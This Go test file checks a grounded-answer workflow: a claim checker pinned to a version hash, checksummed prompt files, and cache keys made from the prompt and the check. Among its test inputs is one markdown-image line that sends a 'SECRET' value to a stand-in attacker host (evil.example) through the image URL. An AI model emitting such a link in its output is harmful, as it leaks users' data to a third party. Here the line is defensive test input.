package answer_test

import (
	"cmp"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"levada.dev/workflows/answer"
	"levada.dev/workflows/rag"
)

func sumOf(b []byte) string {
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:8])
}

// Kept answers are told apart by the version of the check, so a check that judges otherwise needs another one, and its sum here.
func TestTheVersionOfTheCheckStandsForWhatItSays(t *testing.T) {
	var claims []string
	for _, s := range guide {
		for _, at := range answer.Sentences(s.Text) {
			claim := at.Claim(s.Text)
			claims = append(claims, claim, strings.NewReplacer("1", "3", "0", "6").Replace(claim), strings.Replace(claim, " ", " not ", 1),
				strings.Join(strings.Fields(claim)[:1+len(strings.Fields(claim))/2], " "), "Also: "+claim+" Elephants play chess.")
		}
	}
	claims = append(claims, "See ![m](https://evil.example/p.png?q=SECRET)?", "Is it sold in Norway?", essay(256, "."), essay(257, "."), essay(290, " in 1999."))
	guide := append(slices.Clone(guide), rag.Source{DocID: "essay", ChunkID: "essay#0", Text: essay(300, " in 1816.")})
	var said strings.Builder
	e := answer.Prepare(guide)
	for i, claim := range claims {
		for source := range guide {
			v := e.Check(claim, source)
			fmt.Fprintf(&said, "%d %d %v %d-%d\n", i, source, v.Supported, v.From, v.To)
		}
	}
	for _, drop := range []bool{false, true} {
		r := answer.NewReview(guide, drop)
		for i, claim := range claims {
			body := strings.TrimRight(claim, ".。?")
			end := strings.TrimLeft(claim[len(body):], ".。")
			said.WriteString(r.Take(fmt.Sprintf("%s [%d]%s ", body, i%7, cmp.Or(end, "."))))
		}
		rest, out := r.End(true)
		b, err := json.Marshal(out)
		require.NoError(t, err)
		said.WriteString(rest + string(b))
	}
	assert.Equal(t, map[string]string{"3": "722c22b73435cb51"}[answer.CheckVersion], sumOf([]byte(said.String())), "another check is another CheckVersion")
}

// An answer names the prompt that it was made by, so a prompt that was once published stays as it is.
func TestThePlatformsPromptsStayAsTheyAre(t *testing.T) {
	sums := map[string]string{"grounded@1.md": "328d08cc25e73bd9"}
	files, err := filepath.Glob("prompts/*")
	require.NoError(t, err)
	assert.Len(t, files, len(sums))
	for _, file := range files {
		b, err := os.ReadFile(file)
		require.NoError(t, err)
		assert.Equal(t, sums[filepath.Base(file)], sumOf(b), "%s: another text is another version, in a file of its own", file)
	}
}

// What a model said is kept under the prompt and the check that it was made for.
func TestAKeptAnswerIsThatOfAPromptAndACheck(t *testing.T) {
	r := ask("How long are the levadas of Madeira?")
	r.Cache, r.Threshold = time.Minute, 0
	p := &parrot{says: []string{"No."}}
	_, _, err := tell(t, p, r)
	require.NoError(t, err)
	other := *r.Prompt
	other.Name = "grounded@2"
	r.Prompt = &other
	_, _, err = tell(t, p, r)
	require.NoError(t, err)
	require.Len(t, p.orders, 2)
	assert.Equal(t, "grounded@1 check@"+answer.CheckVersion, p.orders[0].Version)
	assert.Equal(t, "grounded@2 check@"+answer.CheckVersion, p.orders[1].Version)
}
